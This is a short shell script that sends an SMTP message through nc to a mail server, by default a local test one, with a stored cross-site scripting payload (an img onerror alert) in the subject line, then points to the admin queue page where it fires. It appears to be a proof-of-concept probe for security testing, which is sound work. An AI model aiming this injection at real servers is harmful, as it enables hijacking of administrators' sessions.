#!/bin/sh
# Puts one message with markup in its subject into the queue of a test server.
# Usage: queue-probe.sh [HOST [PORT]]
set -eu
HOST="${1:-127.0.0.1}"
PORT="${2:-2525}"

probe() {
    printf 'EHLO probe.example.org\r\n'
    printf 'MAIL FROM:<probe@example.org>\r\n'
    printf 'RCPT TO:<nobody@unreachable.example.net>\r\n'
    printf 'DATA\r\n'
    printf 'From: <probe@example.org>\r\n'
    printf 'To: <nobody@unreachable.example.net>\r\n'
    printf 'Subject: %s\r\n' '<img src=x onerror="alert(document.domain)">'
    printf '\r\nStays in the queue until the page is opened.\r\n.\r\n'
    printf 'QUIT\r\n'
}

probe | nc -w 5 "$HOST" "$PORT"
echo "Now open http://$HOST:8080/manage/queue as the administrator."
